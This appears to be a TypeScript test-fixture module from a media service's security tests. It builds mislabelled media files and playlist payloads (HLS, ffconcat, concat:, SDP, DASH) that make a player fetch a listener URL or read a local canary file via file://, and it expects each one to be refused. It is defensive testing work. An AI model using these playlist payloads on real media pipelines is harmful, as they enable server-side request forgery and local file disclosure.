import { latin } from '../formats/bytes.ts';
import { fileType } from '../formats/iso-media.ts';
import type { Fixture, Recipe, SeedName } from '../formats/recipe.ts';
import { chunk, list, wave, waveFormat } from '../formats/riff.ts';
import { fromSeed, recipesByFile, recipesOf, refusedOutcomes } from '../formats/rows.ts';

/** Extensions, each with a file of a different format. */
const mislabelledSeeds: [extension: string, seed: SeedName][] = [
  ['mp4', 'video.mkv'],
  ['m4v', 'video.ts'],
  ['mov', 'video.avi'],
  ['webm', 'video.mov'],
  ['mkv', 'video.mpg'],
  ['avi', 'tone.wav'],
  ['mpg', 'video.ts'],
  ['mpeg', 'video.mkv'],
  ['ts', 'video.mpg'],
  ['m2ts', 'head-last.mp4'],
  ['3gp', 'tone.aac'],
  ['mxf', 'video.mov'],
  ['mp3', 'tone.aac'],
  ['m4a', 'tone.mp3'],
  ['aac', 'tone.m4a'],
  ['wav', 'video.avi'],
  ['flac', 'tone.ogg'],
  ['ogg', 'tone.flac'],
  ['opus', 'video.webm'],
  ['aiff', 'tone.wav'],
  ['gif', 'still.png'],
  ['png', 'moving.gif'],
  ['jpg', 'head-last.mp4'],
  ['pdf', 'video.mkv'],
  ['srt', 'video.ts'],
];

const bytesOfAnother = mislabelledSeeds.flatMap(([extension, seed]) =>
  recipesOf('confused', `video.${extension}`, [[`${extension}-is-${seed}`, fromSeed(seed), refusedOutcomes]]),
);

/** Texts that tell a player to fetch something else: the listener's address and the canary are the targets. */
const playlists: Record<string, (fixture: Fixture) => string> = {
  hls: ({ listener, canary }) =>
    `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nhttp://${listener}/1.ts\n#EXTINF:10,\nfile://${canary}\n#EXT-X-ENDLIST\n`,
  'hls-concat': ({ listener, canary }) =>
    `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nconcat:http://${listener}/x?|file://${canary}\n#EXT-X-ENDLIST\n`,
  'hls-key': ({ listener }) =>
    `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="http://${listener}/key",IV=0x1\n#EXTINF:1,\ncrypto:/in\n#EXT-X-ENDLIST\n`,
  ffconcat: ({ listener, canary }) => `ffconcat version 1.0\nfile '${canary}'\nfile 'http://${listener}/1.mp4'\n`,
  sdp: ({ listener }) => {
    const [address, port] = listener.split(':');
    return `v=0\r\no=- 0 0 IN IP4 ${address}\r\ns=x\r\nc=IN IP4 ${address}\r\nt=0 0\r\nm=video ${port} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n`;
  },
  dash: ({ listener }) =>
    `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><BaseURL>http://${listener}/</BaseURL></Period></MPD>`,
};

const playlistTexts = ['video.mp4', 'video.ts', 'tone.mp3'].flatMap((filename) =>
  recipesOf(
    'confused',
    filename,
    Object.entries(playlists).map(([name, write]) => [
      `${filename}-is-${name}`,
      (fixture) => latin(write(fixture)),
      refusedOutcomes,
    ]),
  ),
);

const samples = Buffer.alloc(16_000, 7);
const lists = [list('hdrl', chunk('avih', Buffer.alloc(56))), list('movi', chunk('00dc', samples))];
const others = recipesByFile('confused', {
  // Valid text files, which must be treated as plain text.
  'note.txt': ['hls', 'ffconcat', 'sdp'].map((name) => [
    `txt-is-${name}`,
    (fixture) => latin(playlists[name]?.(fixture) ?? ''),
  ]),
  'video.avi': [
    [
      'avi-tags-around-wav-data',
      () => chunk('RIFF', latin('AVI '), waveFormat({}), chunk('data', samples)),
      ['corrupt_media'],
    ],
  ],
  'tone.wav': [['wav-with-the-lists-of-an-avi', () => wave({}, samples, ...lists)]],
  'video.mp4': [
    [
      'mp4-signature-before-a-playlist',
      (fixture) => Buffer.concat([fileType, latin(playlists.hls?.(fixture) ?? '')]),
      ['corrupt_media'],
    ],
    ['mp4-and-mkv-one-after-the-other', ({ seed }) => Buffer.concat([seed('head-last.mp4'), seed('video.mkv')])],
  ],
  'video.mkv': [
    [
      'mkv-signature-before-an-avi',
      ({ seed }) => Buffer.concat([seed('video.mkv').subarray(0, 64), seed('video.avi')]),
      ['corrupt_media'],
    ],
  ],
  'tone.mp3': [
    [
      'a-tag-of-mp3-before-a-video',
      ({ seed }) => Buffer.concat([seed('tone.mp3').subarray(0, 45), seed('head-first.mp4')]),
      ['refused 415', 'corrupt_media', 'complete'],
    ],
  ],
  'moving.gif': [
    [
      'gif-signature-before-a-video',
      ({ seed }) => Buffer.concat([latin('GIF89a'), seed('video.mkv')]),
      ['corrupt_media', 'unsupported_codec', 'complete', 'resource_limit_exceeded'],
    ],
  ],
});

export const mislabelledFiles: Recipe[] = [...bytesOfAnother, ...playlistTexts, ...others];
